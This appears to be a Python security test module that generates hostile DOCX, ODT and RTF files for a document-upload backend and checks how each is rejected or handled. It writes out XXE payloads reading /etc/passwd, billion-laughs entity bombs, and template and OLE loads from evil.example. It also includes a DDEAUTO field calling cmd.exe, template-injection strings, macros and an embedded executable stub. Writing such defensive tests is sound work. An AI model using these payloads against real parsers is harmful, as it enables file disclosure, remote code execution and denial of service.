"""DOCX, ODT and RTF: bombs of elements, entities, macros, what loads from elsewhere, and templates in the text."""

import random

from backend.tests.security import making
from backend.tests.security.hostile.case import Case
from backend.tests.security.making import docx, odt, relationships, rtf

_RELS = "word/_rels/document.xml.rels"
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "%s%s%n",
)
"""What a template engine would run if it took a person's words for a template's."""


def _part(xml: str | bytes) -> bytes:
    return docx(extra={"word/header1.xml": xml})


def _varied(count: int, inside: str = "") -> str:
    """Paragraphs that do not pack well, as those of a real document do not."""
    rng = random.Random(1)
    return "".join(f'<w:p w:rsidR="{rng.randrange(2**32):08X}">{inside}</w:p>' for _ in range(count))


def _laughs() -> str:
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f"<!DOCTYPE a [{entities}]><a>&a9;</a>"


def _nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def _field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def _loads(kind: str, target: str) -> Case:
    return Case(
        f"docx: loads {kind} from {target}", lambda: docx(extra={_RELS: relationships((kind, target, True))}), "loads"
    )


def _cut(data: bytes, share: float) -> bytes:
    return data[: int(len(data) * share)]


_TEMPLATE_LINES = (*making.LINES, *TEMPLATES)

CASES = (
    Case("docx: a million paragraphs", lambda: docx(_varied(1_000_000)), "paragraphs"),
    Case("docx: a million empty paragraphs", lambda: docx("<w:p/>" * 1_000_000), "120:1"),
    Case("docx: 250,000 paragraphs", lambda: docx(_varied(250_000)), "paragraphs"),
    Case("docx: 4,900 empty paragraphs", lambda: docx(_varied(4_900))),
    Case("docx: 1,900 paragraphs of text in 70,000 elements", lambda: docx(_varied(1_900, "<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r>" * 8))),
    Case("docx: one paragraph in 70,000 elements", lambda: docx(_varied(1, "".join(f"<w:r><w:rPr><w:sz w:val={chr(34)}{n}{chr(34)}/></w:rPr><w:t>{n * 7919}</w:t></w:r>" for n in range(15_000)))), "."),
    Case("docx: 150,000 empty elements", lambda: docx(_varied(1, "".join(f"<w:bookmarkStart w:id={chr(34)}{n}{chr(34)}/>" for n in range(150_000)))), "elements"),
    Case("docx: a million attributes", lambda: docx("".join(f"<w:p {' '.join(f'a{n}=' + chr(34) * 2 for n in range(60))}/>" for _ in range(18_000))), "120:1"),
    Case("docx: tables 60 deep", lambda: docx(_nested_tables(60))),
    Case("docx: tables 10,000 deep", lambda: docx(_nested_tables(10_000)), "levels deep"),
    Case("docx: one word of 8 MB", lambda: docx(f"<w:p><w:r><w:t>{'ab' * 4_000_000}</w:t></w:r></w:p>"), "120:1"),
    Case("docx: one word of 900,000 letters", lambda: docx(f"<w:p><w:r><w:t>{'ab' * 450_000}</w:t></w:r></w:p>"), "characters"),
    Case("docx: a tag of 2 MB", lambda: docx(extra={"word/a.xml": f'<a b="{"".join(map(str, range(400_000)))}"/>'}), "a tag of more"),
    Case("docx: XXE with a file", lambda: _part('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "DOCTYPE"),
    Case("docx: XXE with an address", lambda: _part('<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1/">]><a>&x;</a>'), "DOCTYPE"),
    Case("docx: XXE with a parameter entity", lambda: _part('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1/"> %x;]><a/>'), "DOCTYPE"),
    Case("docx: XXE with an outside DTD", lambda: _part('<!DOCTYPE a SYSTEM "http://127.0.0.1/a.dtd"><a/>'), "DOCTYPE"),
    Case("docx: XXE in UTF-16", lambda: _part('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16")), "DOCTYPE"),
    Case("docx: XXE in UTF-7", lambda: _part("<?xml version='1.0' encoding='UTF-7'?>+ADw-!DOCTYPE a+AD4-<a/>"), "encoding"),
    Case("docx: XXE in the relationships", lambda: docx(extra={_RELS: '<!DOCTYPE a [<!ENTITY x "y">]><a/>'}), "DOCTYPE"),
    Case("docx: a billion laughs", lambda: _part(_laughs()), "DOCTYPE"),
    Case("docx: quadratic entities", lambda: _part(f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]><a>{"&x;" * 50_000}</a>'), "DOCTYPE"),
    Case("docx: XInclude", lambda: docx('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), shows=("Ada Lovelace",)),
    Case("docx: a stylesheet instruction", lambda: _part("<?xml-stylesheet href='http://127.0.0.1/'?><a/>"), shows=("Ada Lovelace",)),
    Case("docx: templates in the text", lambda: docx(lines=_TEMPLATE_LINES), shows=TEMPLATES),
    Case("docx: macros", lambda: docx(extra={"word/vbaProject.bin": making.ole("VBA")}), "macros"),
    Case("docx: named a macro document", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    Case("docx: ActiveX", lambda: docx(extra={"word/activeX/activeX1.bin": making.ole("x")}), "ActiveX"),
    Case("docx: an OLE object", lambda: docx(extra={"word/embeddings/oleObject1.bin": making.ole("x")}), "embedded object"),
    Case("docx: a program inside", lambda: docx(extra={"word/embeddings/a.bin": b"MZ\x90\x00"}), "a program"),
    _loads("attachedTemplate", "https://evil.example/t.dotm"),
    _loads("attachedTemplate", "\\\\evil.example\\t.dotm"),
    _loads("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"),
    _loads("image", "file:///etc/passwd"),
    _loads("frame", "https://evil.example/"),
    Case("docx: a DDE field", lambda: docx(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe calc")), shows=("Ada Lovelace",)),
    Case("docx: a field that includes a file", lambda: docx(_field("INCLUDETEXT /etc/passwd")), shows=("Ada Lovelace",)),
    Case("docx: relationships in a loop", lambda: docx(extra={_RELS: relationships(("header", "document.xml", False), ("styles", "document.xml", False), ("numbering", "document.xml", False))})),
    Case("docx: no document part", lambda: making.zipped({k: v for k, v in making.docx_parts().items() if k != "word/document.xml"}), "."),
    *(Case(f"docx: cut off at {share:.0%}", lambda share=share: _cut(docx(), share), ".") for share in (0.1, 0.3, 0.5, 0.7, 0.9, 0.99)),
    Case("odt: a million paragraphs", lambda: odt("<text:p/>" * 1_000_000), "120:1"),
    Case("odt: 250,000 paragraphs", lambda: odt("".join(f'<text:p text:style-name="P{n * 7919 % 100_003}"/>' for n in range(250_000))), "paragraphs"),
    Case("odt: 1,900 paragraphs in 25,000 spans", lambda: odt("".join(f"<text:p text:style-name={chr(34)}P{n}{chr(34)}>" + f"<text:span>{n}</text:span>" * 13 + "</text:p>" for n in range(1_900)))),
    Case("odt: a billion laughs", lambda: making.zipped(making.odt_parts() | {"content.xml": _laughs()}), "DOCTYPE"),
    Case("odt: XXE in the styles", lambda: odt(extra={"styles.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'}), "DOCTYPE"),
    Case("odt: two billion spaces in one tag", lambda: odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>'), shows=("Ada Lovelace",)),
    Case("odt: a cell repeated a billion times", lambda: odt('<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'), shows=("Ada Lovelace",)),
    Case("odt: macros", lambda: odt(extra={"Basic/Standard/Evil.xml": "<a/>"}), "macros"),
    Case("odt: a Python macro", lambda: odt(extra={"Scripts/python/evil.py": "import os"}), "macros"),
    Case("odt: a picture from elsewhere", lambda: odt('<draw:image xlink:href="https://evil.example/a.png"/>'), "loads"),
    Case("odt: a section from a file", lambda: odt('<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'), "loads"),
    Case("odt: encrypted", lambda: making.zipped(making.odt_parts() | {"META-INF/manifest.xml": "<a><encryption-data /></a>"}), "password"),
    Case("odt: cut off", lambda: _cut(odt(), 0.6), "breaks off"),
    Case("odt: templates in the text", lambda: odt(lines=_TEMPLATE_LINES), shows=TEMPLATES),
    Case("rtf: an embedded object", lambda: rtf("{\\object\\objemb\\objupdate{\\*\\objdata 01050000}}"), "embedded object"),
    Case("rtf: an object in disguise", lambda: rtf("{\\*\\\\objdata{\\objdata 0105}}"), "embedded object"),
    Case("rtf: a template from elsewhere", lambda: rtf("{\\*\\template http://evil.example/t.dotm}"), "template"),
    Case("rtf: groups a million deep", lambda: rtf("{" * 1_000_000 + "}" * 1_000_000), "200 deep"),
    Case("rtf: a million groups", lambda: rtf("{}" * 1_000_000), "60,000"),
    Case("rtf: a font table of nonsense", lambda: rtf("{\\fonttbl" + "{\\f99999999999 \\'00\\'ff;}" * 5_000 + "}"), shows=("Ada Lovelace",)),
    Case("rtf: numbers beyond all bounds", lambda: rtf("\\u99999999999999999999 ?\\fs-99999999999\\li999999999999\\bin-5 x"), shows=("Ada Lovelace",)),
    Case("rtf: raw bytes without end", lambda: rtf("\\bin999999999 x"), "breaks off"),
    Case("rtf: 5 MB of paragraphs", lambda: rtf("\\par a" * 800_000), "paragraphs"),
    Case("rtf: 59,000 paragraphs", lambda: rtf("\\par a" * 59_000), "paragraphs"),
    Case("rtf: 1,900 paragraphs in 55,000 words", lambda: rtf(("\\par a" + "\\b\\i x" * 14) * 1_900)),
    Case("rtf: 59,000 escapes", lambda: rtf("\\u8364?" * 59_000), "."),
    Case("rtf: cut off", lambda: rtf()[:-3], "breaks off"),
)  # fmt: skip
